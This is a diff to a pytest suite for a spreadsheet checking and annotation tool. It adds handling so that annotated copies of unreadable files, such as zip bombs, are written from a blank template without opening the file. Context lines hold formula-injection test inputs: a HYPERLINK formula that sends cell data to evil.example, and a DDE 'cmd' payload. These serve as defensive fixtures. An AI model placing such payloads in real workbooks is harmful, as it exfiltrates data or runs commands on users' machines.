@@ -15,7 +15,7 @@ import time
 from pathlib import Path
 
 import pytest
-from hostile_corpus import CASES, SKIPPED, SUPERSEDED, available, build_corpus
+from hostile_corpus import CASES, SKIPPED, SUPERSEDED, UNREADABLE, available, build_corpus
 from openpyxl import load_workbook
 
 from xltools import UnreadableError
@@ -166,7 +166,7 @@ def test_cli_check_whole_corpus(corpus, checked, tmp_path):
                 if c.rule:
                     assert any(f["rule"] == c.rule for f in by_file[p]["findings"]), c.kind
     assert _snapshot(root) == before  # inputs never modified
-    _assert_annotated_copies_inert(ann, [p for c in AVAILABLE for p in built[c.kind]])
+    _assert_annotated_copies_inert(ann, built)
 
 
 def test_cli_check_single_files_exit_codes(corpus):
@@ -210,13 +210,16 @@ def _formula_cells(path: Path) -> set[tuple[str, str]]:
     }
 
 
-def _assert_annotated_copies_inert(folder: Path, inputs: list[Path]) -> None:
-    """Annotated copies: no formula in 校验结果; elsewhere only formulas the input itself had."""
+def _assert_annotated_copies_inert(folder: Path, built: dict[str, list[Path]]) -> None:
+    """Annotated copies: no formula in 校验结果; elsewhere only formulas the input itself had
+    (an unreadable input's copy is the template refilled: its input is never opened, here
+    neither — a bomb stays unopened)."""
     from xltools.annotate import annotated_name
 
     copies = sorted(folder.iterdir())
     assert copies
-    source = {annotated_name(p, folder).name: p for p in inputs}
+    inputs = [(p, c.status == UNREADABLE) for c in AVAILABLE for p in built[c.kind]]
+    source = {annotated_name(p, folder).name: (p, bad) for p, bad in inputs}
     for copy in copies:
         assert copy.suffix == ".xlsx" and copy.parent == folder
         assert (
@@ -227,9 +230,9 @@ def _assert_annotated_copies_inert(folder: Path, inputs: list[Path]) -> None:
         wb = load_workbook(copy)
         results = wb["校验结果"]
         assert all(c.data_type != "f" for row in results.iter_rows() for c in row), copy
-        src = source[copy.name]
+        src, unreadable = source[copy.name]
         try:
-            own = _formula_cells(src)
+            own = _template_formulas() if unreadable else _formula_cells(src)
         except Exception:  # .xls/.ods: the copy is the template refilled
             own = _template_formulas()
         extra = {x for x in _formula_cells(copy) if x not in own and x[0] != "校验结果"}
@@ -290,9 +293,7 @@ def test_consolidate_writes_only_inside_outdir_and_no_live_formulas(consolidated
     names = {c.value for c in wb["报送情况"]["B"] if isinstance(c.value, str)}
     assert '=HYPERLINK("http://evil.example/?"&A1,"点击")' in names
     assert "+1+cmd|' /C calc'!A0" in names
-    _assert_annotated_copies_inert(
-        outdir / ANNOTATED_DIR, [p for c in AVAILABLE for p in built[c.kind]]
-    )
+    _assert_annotated_copies_inert(outdir / ANNOTATED_DIR, built)
 
 
 def test_consolidate_library_agrees_with_cli(consolidated, tmp_path):
@@ -425,3 +426,27 @@ def _processes_mentioning(text: str) -> list[int]:
             except OSError:
                 pass
     return out
+
+
+def test_an_unreadable_files_annotated_copy_never_opens_the_file(tmp_path):
+    """The reader gave up on the file (a bomb, a crash, a limit in its isolated worker): its
+    annotated copy is the blank template with the reason, written without opening the file —
+    even where the file would open (here a workbook with a sheet of its own)."""
+    from factory import make_workbook
+
+    from xltools.annotate import annotate
+    from xltools.pipeline import unreadable_report
+
+    src = make_workbook(tmp_path / "局.xlsx", meta_agency="聊城市甲局")
+    wb = load_workbook(src)
+    wb.create_sheet("不应出现")
+    wb.save(src)
+    report = unreadable_report(str(src), "内存不足（测试）")
+    out = annotate(report, tmp_path / "批注.xlsx")
+    copy = load_workbook(out)
+    assert "不应出现" not in copy.sheetnames
+    assert copy.sheetnames[0] == "校验结果"
+    texts = [c.value for row in copy["校验结果"].iter_rows() for c in row if c.value]
+    assert any("内存不足（测试）" in str(t) for t in texts)
+    shown = [c.value for ws in copy for row in ws.iter_rows() for c in row]
+    assert "聊城市甲局" not in shown  # nothing of the file's own content
